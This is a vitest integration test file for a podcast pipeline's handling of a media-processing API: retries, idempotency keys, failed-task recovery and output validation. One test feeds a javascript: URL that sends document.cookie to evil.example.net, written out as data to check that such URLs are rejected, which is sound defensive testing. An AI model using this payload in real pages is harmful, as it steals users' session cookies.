import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  EPISODE_QUERY,
  episodeRow,
  jobCount,
  report,
  taskRows,
  uploadEpisode,
  waitForStatus,
  waitForTasks,
} from "../support/pipeline.ts";
import {
  ITTYBIT_TEST_ATTEMPTS,
  type Scenario,
  startScenario,
  type TestProducer,
} from "../support/scenario.ts";

let scenario: Scenario;
let producer: TestProducer;

beforeAll(async () => {
  scenario = await startScenario({ overrides: { reconcileCron: "0 0 1 1 *" } });
  producer = await scenario.producer();
});
afterAll(() => scenario.stop());

/** The tasks the stand-in holds for one uploaded file: what Ittybit would bill. */
function ittybitTasksFor(fileId: string) {
  return [...scenario.ittybit.tasks.values()].filter((entry) => entry.request.file_id === fileId);
}

function taskCreations(fileId: string) {
  return scenario.ittybit.requests.filter(
    (request) =>
      request.method === "POST" &&
      request.path === "/tasks" &&
      (request.body as { file_id?: string } | undefined)?.file_id === fileId,
  );
}

describe("creating tasks at Ittybit", () => {
  it("creates only the missing tasks when the job dies between two task creations", async () => {
    // The third task is created at Ittybit, but every answer is lost: the job fails after
    // saving two tasks, and pg-boss runs it again.
    scenario.ittybit.dropNext({
      method: "POST",
      path: "/tasks",
      after: 2,
      times: ITTYBIT_TEST_ATTEMPTS,
    });
    const episode = await uploadEpisode(scenario, producer, "Interrupted");
    await waitForStatus(scenario, episode.uuid, "PROCESSING");
    const rows = await taskRows(scenario, episode.uuid);
    expect(rows).toHaveLength(4);
    expect(new Set(rows.map((row) => row.type)).size).toBe(4);
    const atIttybit = ittybitTasksFor(episode.fileId);
    expect(atIttybit).toHaveLength(4);
    expect(new Set(atIttybit.map((entry) => entry.task.kind))).toEqual(
      new Set(["audio", "video", "speech", "chapters"]),
    );
    // Every attempt at the third task, in the first run and the retried job, used one key.
    const speech = taskCreations(episode.fileId).filter(
      (request) => (request.body as { kind: string }).kind === "speech",
    );
    expect(speech.length).toBeGreaterThan(ITTYBIT_TEST_ATTEMPTS);
    expect(new Set(speech.map((request) => request.headers["idempotency-key"])).size).toBe(1);
    expect(await jobCount(scenario, "process-episode", episode.uuid)).toBe(1);
  });

  it("rides out a 500 followed by a 201", async () => {
    scenario.ittybit.failNext({ method: "POST", path: "/tasks", status: 500 });
    const episode = await uploadEpisode(scenario, producer, "Hiccup");
    await waitForStatus(scenario, episode.uuid, "PROCESSING");
    expect(ittybitTasksFor(episode.fileId)).toHaveLength(4);
    const creations = taskCreations(episode.fileId);
    expect(creations).toHaveLength(5);
    expect(creations[0]?.headers["idempotency-key"]).toBe(creations[1]?.headers["idempotency-key"]);
  });

  it("waits as long as a 429's Retry-After asks", async () => {
    scenario.ittybit.failNext({
      method: "POST",
      path: "/media",
      status: 429,
      headers: { "retry-after": "1" },
      body: { message: "Too many requests" },
    });
    const episode = await uploadEpisode(scenario, producer, "Throttled");
    await waitForStatus(scenario, episode.uuid, "PROCESSING");
    const media = scenario.ittybit.requests.filter(
      (request) =>
        request.method === "POST" &&
        request.path === "/media" &&
        JSON.stringify(request.body).includes(episode.uuid),
    );
    expect(media).toHaveLength(2);
    expect((media[1]?.receivedAt ?? 0) - (media[0]?.receivedAt ?? 0)).toBeGreaterThanOrEqual(950);
    expect(scenario.ittybit.media.size).toBeGreaterThan(0);
  });

  it("fails the episode with Ittybit's reason on a permanent refusal, without retrying", async () => {
    scenario.ittybit.failNext({
      method: "POST",
      path: "/tasks",
      status: 422,
      after: 1,
      body: { message: "The video codec of this file is not supported" },
    });
    const episode = await uploadEpisode(scenario, producer, "Refused");
    const failed = await waitForStatus(scenario, episode.uuid, "FAILED");
    expect(failed.failure_reason).toContain("The video codec of this file is not supported");
    expect(failed.failure_reason).toContain("422");
    expect(taskCreations(episode.fileId)).toHaveLength(2);
    const rows = await taskRows(scenario, episode.uuid);
    expect(rows.map((row) => row.type)).toEqual(["AUDIO_EXTRACTION"]);
  });
});

describe("a failed task", () => {
  it("fails the episode naming the task, and retryEpisode re-creates only that task until PROCESSED", async () => {
    const episode = await uploadEpisode(scenario, producer, "Second chance");
    const tasks = await waitForTasks(scenario, episode.uuid);
    await waitForStatus(scenario, episode.uuid, "PROCESSING");
    const transcript = tasks.find((task) => task.type === "TRANSCRIPT_GENERATION");
    for (const task of tasks) {
      if (task === transcript) {
        await report(scenario, task.engine_task_id, "failed", {
          error: "No speech detected in the audio track",
        });
      } else {
        await report(scenario, task.engine_task_id, "completed");
      }
    }
    const failed = await waitForStatus(scenario, episode.uuid, "FAILED");
    expect(failed.failure_reason).toBe(
      "Processing failed — transcript generation: No speech detected in the audio track",
    );

    const refused = await producer.gql<{ retryEpisode: { __typename: string } }>(
      "mutation($id: ID!) { retryEpisode(id: $id) { __typename ... on Error { message } } }",
      { id: (await uploadEpisode(scenario, producer, "Not failed")).id },
    );
    expect(refused.body.data?.retryEpisode.__typename).toBe("ConflictError");

    const creationsBefore = taskCreations(episode.fileId).length;
    const retried = await producer.gql<{
      retryEpisode: { __typename: string; episode: { status: string } };
    }>(
      "mutation($id: ID!) { retryEpisode(id: $id) { __typename ... on RetryEpisodePayload { episode { status } } } }",
      { id: episode.id },
    );
    expect(retried.body.data?.retryEpisode).toEqual({
      __typename: "RetryEpisodePayload",
      episode: { status: "PROCESSING" },
    });
    const rows = await waitForTasks(scenario, episode.uuid, 5);
    const newCreations = taskCreations(episode.fileId).slice(creationsBefore);
    expect(newCreations.map((request) => (request.body as { kind: string }).kind)).toEqual([
      "speech",
    ]);
    const secondAttempt = rows.find(
      (row) => row.type === "TRANSCRIPT_GENERATION" && row.attempt === 2,
    );
    expect(secondAttempt?.status).toBe("PENDING");

    await report(scenario, secondAttempt?.engine_task_id as string, "completed");
    await waitForStatus(scenario, episode.uuid, "PROCESSED");
    const { body } = await producer.gql<{
      episode: {
        progress: number;
        failureReason: null;
        tasks: Array<{ type: string; attempt: number; status: string }>;
      };
    }>(EPISODE_QUERY, { id: episode.id });
    expect(body.data?.episode.failureReason).toBeNull();
    expect(body.data?.episode.progress).toBe(100);
    expect(body.data?.episode.tasks).toHaveLength(4);
    expect(body.data?.episode.tasks.every((task) => task.status === "COMPLETED")).toBe(true);
    expect(
      body.data?.episode.tasks.find((task) => task.type === "TRANSCRIPT_GENERATION")?.attempt,
    ).toBe(2);
    expect((await taskRows(scenario, episode.uuid)).length).toBe(5);
    expect(await jobCount(scenario, "complete-episode", episode.uuid)).toBe(2);
  });
});

describe("a retry of several failed tasks", () => {
  it("does not finish the round until every failed task has a new attempt, however the events fall", async () => {
    const episode = await uploadEpisode(scenario, producer, "Two failures");
    const tasks = await waitForTasks(scenario, episode.uuid);
    await waitForStatus(scenario, episode.uuid, "PROCESSING");
    for (const task of tasks) {
      const failing = task.type === "TRANSCRIPT_GENERATION" || task.type === "CHAPTER_DETECTION";
      await report(scenario, task.engine_task_id, failing ? "failed" : "completed");
    }
    await waitForStatus(scenario, episode.uuid, "FAILED");

    // The retry creates the transcript's new attempt, then Ittybit fails the chapters one for a
    // while; meanwhile the new transcript attempt completes.
    scenario.ittybit.failNext({
      method: "POST",
      path: "/tasks",
      status: 503,
      after: 1,
      times: ITTYBIT_TEST_ATTEMPTS,
    });
    await producer.gql("mutation($id: ID!) { retryEpisode(id: $id) { __typename } }", {
      id: episode.id,
    });
    const withTranscript = await waitForTasks(scenario, episode.uuid, 5);
    const transcript = withTranscript.find(
      (row) => row.type === "TRANSCRIPT_GENERATION" && row.attempt === 2,
    );
    await report(scenario, transcript?.engine_task_id as string, "completed");
    expect((await episodeRow(scenario, episode.uuid)).status).toBe("PROCESSING");
    expect(await jobCount(scenario, "complete-episode", episode.uuid)).toBe(1);

    const all = await waitForTasks(scenario, episode.uuid, 6);
    const chapters = all.find((row) => row.type === "CHAPTER_DETECTION" && row.attempt === 2);
    expect((await episodeRow(scenario, episode.uuid)).status).toBe("PROCESSING");
    await report(scenario, chapters?.engine_task_id as string, "completed");
    await waitForStatus(scenario, episode.uuid, "PROCESSED");
    expect(await jobCount(scenario, "complete-episode", episode.uuid)).toBe(2);
  });
});

describe("an output URL that is not http(s)", () => {
  it("is never stored or shown: the task waits for a real one", async () => {
    const episode = await uploadEpisode(scenario, producer, "Script output");
    const tasks = await waitForTasks(scenario, episode.uuid);
    await waitForStatus(scenario, episode.uuid, "PROCESSING");
    const audio = tasks.find((task) => task.type === "AUDIO_EXTRACTION") as (typeof tasks)[number];
    await report(scenario, audio.engine_task_id, "completed", {
      output: { url: "javascript:fetch('https://evil.example.net/?'+document.cookie)" },
    });
    for (const task of tasks) {
      if (task !== audio) await report(scenario, task.engine_task_id, "completed");
    }
    const rows = await taskRows(scenario, episode.uuid);
    expect(rows.find((row) => row.type === "AUDIO_EXTRACTION")?.output_url ?? null).toBeNull();
    expect((await episodeRow(scenario, episode.uuid)).status).toBe("PROCESSING");
    expect(await jobCount(scenario, "complete-episode", episode.uuid)).toBe(0);
  });
});

describe("a completion reported before its output", () => {
  it("waits for the output instead of finishing without it", async () => {
    const episode = await uploadEpisode(scenario, producer, "Output later");
    const tasks = await waitForTasks(scenario, episode.uuid);
    await waitForStatus(scenario, episode.uuid, "PROCESSING");
    const audio = tasks.find((task) => task.type === "AUDIO_EXTRACTION") as (typeof tasks)[number];
    const bare = scenario.ittybit.setTaskStatus(audio.engine_task_id, "completed", {
      output: null,
    });
    expect(
      (await scenario.ittybit.deliverWebhook(audio.engine_task_id, { payload: bare })).status,
    ).toBe(200);
    for (const task of tasks) {
      if (task !== audio) await report(scenario, task.engine_task_id, "completed");
    }
    expect((await episodeRow(scenario, episode.uuid)).status).toBe("PROCESSING");
    expect(await jobCount(scenario, "complete-episode", episode.uuid)).toBe(0);

    await report(scenario, audio.engine_task_id, "completed", { output: {} });
    const done = await waitForStatus(scenario, episode.uuid, "PROCESSED");
    expect(done.audio_url).toBeTruthy();
  });
});

describe("an output that cannot be read", () => {
  it("fails the episode with the reason instead of finishing it", async () => {
    const episode = await uploadEpisode(scenario, producer, "Garbled transcript");
    const tasks = await waitForTasks(scenario, episode.uuid);
    await waitForStatus(scenario, episode.uuid, "PROCESSING");
    for (const task of tasks) {
      const done = scenario.ittybit.setTaskStatus(task.engine_task_id, "completed");
      if (task.type === "TRANSCRIPT_GENERATION") {
        scenario.ittybit.setOutputContent(
          done.output?.id as string,
          "<html>Gateway error</html>",
          "text/html",
        );
      }
      expect((await scenario.ittybit.deliverWebhook(task.engine_task_id)).status).toBe(200);
    }
    const failed = await waitForStatus(scenario, episode.uuid, "FAILED");
    expect(failed.failure_reason).toBe("Processing finished, but the transcript is not valid JSON");
    expect(failed.transcript).toBeNull();
  });
});

describe("a processing job that spends its retries", () => {
  it("ends in the dead letter queue and leaves the episode FAILED with the reason", async () => {
    // Ittybit refuses every media creation for a while; the job below may try once.
    scenario.ittybit.failNext({ method: "POST", path: "/media", status: 503, times: 1000 });
    const episode = await uploadEpisode(scenario, producer, "Given up");
    await scenario.podflow.deps.boss.send(
      "process-episode",
      { episodeId: episode.uuid },
      { retryLimit: 0 },
    );
    const failed = await waitForStatus(scenario, episode.uuid, "FAILED");
    expect(failed.failure_reason).toMatch(
      /^Podflow gave up on process-episode after 1 attempts: .*503/,
    );
  });
});
